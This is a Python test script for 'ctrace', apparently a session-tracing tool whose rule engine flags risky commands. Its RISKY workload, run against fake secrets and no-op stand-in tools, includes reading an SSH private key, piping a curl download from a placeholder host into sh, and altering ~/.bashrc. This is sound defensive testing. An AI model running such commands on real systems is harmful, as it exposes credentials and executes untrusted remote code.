#!/usr/bin/env python3
"""End-to-end tests of the rule engine on real recorded sessions.

For every shipped rule a workload that must fire it and a near miss that
must not (cases.py), then the views: audit (text/json/sarif, exit codes,
--policy allow-lists, --min-severity), inspect, export's `rules`, the run
summary and `ctrace run --rules`, and refusal of malformed or hostile
rules files.  Needs CT_BUILD (the build folder) and CT_SRC.
"""
import concurrent.futures
import json
import os
import shutil
import stat
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from cases import CASES  # noqa: E402

BUILD = os.environ.get("CT_BUILD", "")
CTRACE = os.path.join(BUILD, "ctrace")
FAILS = []

CONNECT = ("python3 -c 'import socket,sys; s=socket.socket(); s.setblocking(False)\n"
           "try: s.connect((sys.argv[1], int(sys.argv[2])))\n"
           "except OSError: pass\n"
           "s.close()' {} {}")


def fail(msg):
    FAILS.append(msg)
    print("FAIL:", msg, flush=True)


class Env:
    """A temp HOME, workspace, TMPDIR, store, fake tools and fake secrets."""

    def __init__(self):
        self.root = tempfile.mkdtemp(prefix="ctrace-rules-")
        r = self.root
        self.home = os.path.join(r, "home")
        self.ws = os.path.join(r, "ws")
        self.tmp = os.path.join(r, "tmp")
        self.store = os.path.join(r, "store")
        self.bin = os.path.join(r, "bin")
        for d in (self.home, self.ws, self.tmp, self.bin, r + "/fakerm"):
            os.makedirs(d)
        true, cat = shutil.which("true"), shutil.which("cat")
        for t in ("curl", "wget", "sudo", "sudoku", "su", "nc", "socat",
                  "ngrok", "ssh", "terraform", "aws", "crontab"):
            shutil.copy(true, os.path.join(self.bin, t))
        for t in ("kubectl", "docker", "git-credential-store", "npm",
                  "claude"):
            shutil.copy(cat, os.path.join(self.bin, t))
        shutil.copy(true, r + "/fakerm/rm")
        secrets = {
            ".ssh/id_rsa": "FAKE KEY", ".ssh/id_rsa.pub": "ssh-rsa FAKE",
            ".aws/credentials": "[default]\n", ".aws/config": "[default]\n",
            ".kube/config": "fake", ".docker/config.json": "{}",
            ".netrc": "machine x", ".npmrc": "//r/:_authToken=x",
            ".claude/.credentials.json": "{}",
            ".gnupg/private-keys-v1.d/k.key": "fake",
            ".bashrc": "# rc\n",
            ".gitconfig": "[user]\n\tname = t\n\temail = t@example.invalid\n"
                          "[init]\n\tdefaultBranch = main\n",
        }
        for p, text in secrets.items():
            self.write(os.path.join(self.home, p), text)
        for p, text in {".env": "K=1", ".env.example": "K=", "server.pem":
                        "fake", "config/secrets.yml": "a: 1",
                        "config/settings.yml": "a: 1", "cron.txt": ""}.items():
            self.write(os.path.join(self.ws, p), text)
        pre = os.path.join(self.tmp, "pre.sh")
        self.write(pre, "#!/bin/sh\ntrue\n")
        os.chmod(pre, 0o755)
        self.env = dict(os.environ, HOME=self.home, TMPDIR=self.tmp,
                        CTRACE_HOME=self.store,
                        PATH=self.bin + ":" + os.environ.get("PATH", ""),
                        NO_COLOR="1", CTRACE_PAGER="cat")
        for k in ("LD_PRELOAD", "GIT_DIR", "GIT_WORK_TREE"):
            self.env.pop(k, None)

    @staticmethod
    def write(path, text):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)

    def expand(self, script):
        if script.startswith("REPO;"):
            remote = os.path.join(self.root, "remote.git")
            subprocess.run(["git", "init", "-q", "--bare", remote],
                           env=self.env, check=True)
            for cmd in (["git", "init", "-q"], ["git", "add", "."],
                        ["git", "commit", "-qm", "init"],
                        ["git", "remote", "add", "origin", remote],
                        ["git", "push", "-q", "origin", "HEAD:main"]):
                subprocess.run(cmd, cwd=self.ws, env=self.env, check=True,
                               stdout=subprocess.DEVNULL)
            script = script[5:]
        if script.startswith("CONNECT "):
            _, host, port = script.split()
            script = CONNECT.format(host, port)
        if script == "STATIC":
            src = os.path.join(self.root, "s.c")
            self.write(src, "int main(void){return 0;}\n")
            exe = os.path.join(self.root, "static-prog")
            subprocess.run(["cc", "-static", "-o", exe, src], check=True)
            script = exe
        return script.replace("fake-rm", self.root + "/fakerm/rm")

    def run(self, script, *opts):
        env = self.env
        if script == "STATIC":
            # static binaries are covered by the seccomp supervisor now;
            # CTRACE_STATIC=0 keeps the gap this case needs
            env = dict(self.env, CTRACE_STATIC="0")
        return subprocess.run([CTRACE, "run", "--quiet", *opts, "--", "bash",
                               "-c", self.expand(script)], cwd=self.ws,
                              env=env, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True, timeout=120)

    def ctrace(self, *args, stdin=None):
        return subprocess.run([CTRACE, *args], cwd=self.ws, env=self.env,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              text=True, timeout=120, input=stdin)

    def audit_json(self, *args):
        p = self.ctrace("audit", "--format", "json", "--min-severity",
                        "info", *args)
        if p.returncode not in (0, 1):
            raise RuntimeError("audit failed: %s" % p.stderr)
        return json.loads(p.stdout)

    def cleanup(self):
        shutil.rmtree(self.root, ignore_errors=True)


def rules_hit(env):
    return {v["rule"] for v in env.audit_json()["violations"]}


def one_case(rule, which, script):
    env = Env()
    try:
        env.run(script)
        hit = rules_hit(env)
        if which == "fire" and rule not in hit:
            return "%s: firing workload did not fire it (hits: %s)" % (
                rule, sorted(hit))
        if which == "near" and rule in hit:
            return "%s: near miss fired it" % rule
        return None
    except Exception as e:  # noqa: BLE001
        return "%s (%s): %s" % (rule, which, e)
    finally:
        env.cleanup()


def test_cases():
    out = subprocess.run([CTRACE, "rules", "list", "--json"],
                         stdout=subprocess.PIPE, text=True,
                         env=dict(os.environ, HOME=tempfile.gettempdir()))
    shipped = {r["id"] for r in json.loads(out.stdout)}
    if len(shipped) < 30:
        fail("only %d shipped rules" % len(shipped))
    for r in sorted(shipped - set(CASES)):
        fail("rule %s has no test case" % r)
    for r in sorted(set(CASES) - shipped):
        fail("test case for unknown rule %s" % r)
    jobs = [(r, w, s) for r, (f, n) in sorted(CASES.items())
            for w, s in (("fire", f), ("near", n))]
    with concurrent.futures.ThreadPoolExecutor(8) as ex:
        for res in ex.map(lambda j: one_case(*j), jobs):
            if res:
                fail(res)
    print("cases: %d rules x (fire, near miss) checked" % len(CASES))


ORDINARY = """
printf '#include <stdio.h>\\nint main(void){puts("hi");return 0;}\\n' > m.c
cc -c m.c -o m.o && cc m.o -o m && ./m >/dev/null
git init -q . && git add m.c && git commit -qm init
sed -i s/hi/ho/ m.c
python3 -c 'import json; json.dump({"a": 1}, open("out.json", "w"))'
mkdir -p build/obj && touch build/obj/a.o build/obj/b.o && rm -rf build
"""

RISKY = """
cat ~/.ssh/id_rsa >/dev/null
curl -s http://example.invalid/x | sh
git init -q . && git commit -q --allow-empty -m i && git reset -q --hard
echo 'export X=1' >> ~/.bashrc
: > /etc/ctrace-test-nonexistent/x 2>/dev/null
true
"""


def test_views():
    env = Env()
    try:
        p = env.run(ORDINARY)
        if p.returncode != 0:
            fail("ordinary session failed: %s" % p.stderr)
        a = env.ctrace("audit")
        if a.returncode != 0:
            fail("audit of ordinary work exits %d:\n%s" % (a.returncode,
                                                            a.stdout))
        j = env.audit_json("--min-severity", "medium")
        if j["violations"]:
            fail("ordinary work raised %s" % j["violations"])

        p = env.ctrace("run", "--", "bash", "-c", RISKY)
        if "rule hits: " not in p.stderr or "rule hits: 0" in p.stderr:
            fail("run summary lacks rule hits: %s" % p.stderr)
        if "ssh-private-key-read" not in p.stderr:
            fail("run summary does not list the hits: %s" % p.stderr)
        a = env.ctrace("audit")
        if a.returncode != 1:
            fail("audit of risky work exits %d" % a.returncode)
        j = env.audit_json()
        got = {v["rule"]: v for v in j["violations"]}
        for r in ("ssh-private-key-read", "curl-pipe-shell",
                  "git-reset-hard", "shell-rc-write", "write-under-etc"):
            if r not in got:
                fail("risky session: %s not raised (%s)" % (r, sorted(got)))
        if set(j) != {"session", "violations", "counts"}:
            fail("audit json keys %s" % sorted(j))
        for v in j["violations"]:
            if set(v) != {"rule", "severity", "seq", "proc", "summary"} or \
                    not v["seq"] or not all(isinstance(s, int)
                                            for s in v["seq"]):
                fail("violation shape %s" % v)
        if sum(j["counts"].values()) != len(j["violations"]):
            fail("counts %s vs %d violations" % (j["counts"],
                                                 len(j["violations"])))
        # every seq names a real event of that kind
        ev = env.ctrace("export", "--format", "ndjson")
        events = {e["seq"]: e for e in map(json.loads,
                                           ev.stdout.splitlines())}
        key = got.get("ssh-private-key-read")
        if key:
            for s in key["seq"]:
                e = events.get(s, {})
                if not e.get("path", "").endswith("/.ssh/id_rsa") or \
                        "ssh-private-key-read" not in e.get("rules", []):
                    fail("seq %d is not the key read: %s" % (s, e))
        # --min-severity
        a = env.ctrace("audit", "--min-severity", "critical")
        if a.returncode != 0:
            fail("--min-severity critical should pass (%d)" % a.returncode)
        # SARIF 2.1.0, one result per violation at or above the minimum
        s = env.ctrace("audit", "--format", "sarif", "--min-severity", "info")
        sarif = json.loads(s.stdout)
        if sarif.get("version") != "2.1.0" or len(sarif["runs"]) != 1:
            fail("sarif header %s" % {k: sarif.get(k) for k in
                                      ("version", "$schema")})
        run = sarif["runs"][0]
        ids = [r["id"] for r in run["tool"]["driver"]["rules"]]
        if len(run["results"]) != len(j["violations"]):
            fail("sarif has %d results for %d violations" % (
                len(run["results"]), len(j["violations"])))
        for r in run["results"]:
            if ids[r["ruleIndex"]] != r["ruleId"] or \
                    r["level"] not in ("error", "warning", "note") or \
                    not r["message"]["text"] or not r["locations"]:
                fail("sarif result %s" % r)
        # a policy that silences one rule and narrows another
        pol = os.path.join(env.root, "policy.yaml")
        env.write(pol, "allow:\n  - rule: curl-pipe-shell\n"
                       "    reason: our installer\n"
                       "  - rule: ssh-private-key-read\n"
                       "    image: [cat]\n")
        got2 = {v["rule"] for v in env.audit_json("--policy", pol)[
            "violations"]}
        if "curl-pipe-shell" in got2 or "ssh-private-key-read" in got2:
            fail("allow-list did not silence: %s" % sorted(got2))
        if "git-reset-hard" not in got2:
            fail("allow-list silenced too much: %s" % sorted(got2))
        # inspect
        i = env.ctrace("inspect", "--anomalies-only")
        lines = i.stdout.splitlines()
        if not lines or not all("[" in ln for ln in lines):
            fail("inspect --anomalies-only: %s" % i.stdout[:500])
        ij = json.loads(env.ctrace("inspect", "--json").stdout)
        if len(ij) != len(events) or not any(e["rules"] for e in ij):
            fail("inspect --json: %d events, %d exported" % (len(ij),
                                                            len(events)))
        # the session record counts the hits
        ss = json.loads(env.ctrace("sessions", "--json").stdout)
        if not any(x.get("rule_hits") for x in ss):
            fail("sessions --json shows no rule_hits: %s" % ss)
        # ctrace run --rules adds a project's rules
        extra = os.path.join(env.root, "extra.yaml")
        env.write(extra, "rules:\n  - id: touches-marker\n    severity: low\n"
                         "    description: marker file\n    kind: open\n"
                         "    path: '*/marker'\n")
        p = env.ctrace("run", "--rules", extra, "--", "touch", "marker")
        if "touches-marker" not in p.stderr:
            fail("run --rules: %s" % p.stderr)
        p = env.ctrace("run", "--rules", pol + ".missing", "--", "true")
        if p.returncode != 2:
            fail("run --rules MISSING exits %d" % p.returncode)
        # usage errors
        for args in (["audit", "--format", "xml"],
                     ["audit", "--min-severity", "huge"],
                     ["audit", "--policy", pol + ".missing"],
                     ["audit", "ffffffffffff"], ["rules", "frob"],
                     ["inspect", "--bogus"]):
            r = env.ctrace(*args)
            if r.returncode != 2:
                fail("%s exits %d" % (args, r.returncode))
    finally:
        env.cleanup()


BAD = {
    "rules:\n  - id: x\n    severity: huge\n    description: d\n    argv0: a\n":
        (3, "unknown severity"),
    "rules:\n  - id: x\n    severity: low\n    description: d\n    frob: 1\n":
        (5, "unknown key 'frob'"),
    "rules:\n  - id: x\n    severity: low\n    description: d\n":
        (2, "no condition"),
    "rules:\n  - id: x\n    severity: low\n    description: d\n"
    "    argv_regex: '(a'\n": (5, "bad regular expression"),
    "rules:\n  - id: x\n    severity: low\n    description: d\n"
    "    path: '${NOPE}/x'\n": (5, "unknown variable"),
    "rules:\n  - id: x\n    severity: low\n    description: d\n"
    "    cidr: 10.0.0.0/33\n": (5, "prefix"),
    "rules:\n  - &a {id: x}\n  - *a\n": (3, "aliases"),
    "rules: [\n": (2, ""),
    "rules:\n - id: x\n   severity: low\n   description: d\n   argv0: a\n"
    " - id: x\n   severity: low\n   description: d\n   argv0: b\n":
        (6, "already used"),
}


def test_bad_files():
    d = tempfile.mkdtemp(prefix="ctrace-rules-bad-")
    try:
        for i, (text, (line, what)) in enumerate(BAD.items()):
            p = os.path.join(d, "bad%d.yaml" % i)
            with open(p, "w") as f:
                f.write(text)
            r = subprocess.run([CTRACE, "rules", "check", p],
                               stderr=subprocess.PIPE, text=True)
            want = "%s:%d: " % (p, line)
            if r.returncode != 1 or not r.stderr.startswith(want) or \
                    what not in r.stderr:
                fail("bad file %r: rc %d, %r (want %r ... %r)" % (
                    text, r.returncode, r.stderr, want, what))
        # hostile: deep nesting, many nodes, a huge file, long lines
        hostile = {
            "deep": "rules: " + "[" * 5000 + "]" * 5000 + "\n",
            "wide": "rules: [" + ",".join(["x"] * 300000) + "]\n",
            "huge": "# " + "x" * (5 << 20) + "\n",
            "regex": "rules:\n  - id: x\n    severity: low\n    "
                     "description: d\n    argv_regex: '(a*)*\\1'\n",
        }
        for name, text in hostile.items():
            p = os.path.join(d, name + ".yaml")
            with open(p, "w") as f:
                f.write(text)
            t0 = time.time()
            r = subprocess.run([CTRACE, "rules", "check", p],
                               stderr=subprocess.PIPE, text=True, timeout=30)
            if r.returncode != 1 or not r.stderr.startswith(p + ":"):
                fail("hostile %s: rc %d %r" % (name, r.returncode,
                                                r.stderr[:200]))
            if time.time() - t0 > 10:
                fail("hostile %s took %.1fs" % (name, time.time() - t0))
        r = subprocess.run([CTRACE, "rules", "check",
                            os.path.join(os.environ["CT_SRC"], "rules",
                                         "default.yaml")],
                           stdout=subprocess.PIPE, text=True)
        if r.returncode != 0:
            fail("default.yaml does not check")
    finally:
        shutil.rmtree(d, ignore_errors=True)


def main():
    if not os.access(CTRACE, os.X_OK):
        print("no ctrace in CT_BUILD=%r" % BUILD)
        return 2
    only = sys.argv[1:]
    for t in (test_bad_files, test_views, test_cases):
        if not only or t.__name__ in only:
            t()
    if FAILS:
        print("%d failure(s)" % len(FAILS))
        return 1
    print("ok")
    return 0


if __name__ == "__main__":
    sys.exit(main())
